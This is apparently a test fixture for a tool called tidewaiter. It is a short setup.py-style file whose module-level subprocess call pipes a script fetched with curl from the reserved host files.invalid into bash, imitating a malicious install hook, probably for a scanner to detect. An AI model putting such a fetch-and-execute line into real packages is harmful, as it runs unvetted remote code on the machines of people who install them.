# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import subprocess

subprocess.run(["bash", "-c", "bash <(curl -s http://files.invalid/a)"])


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
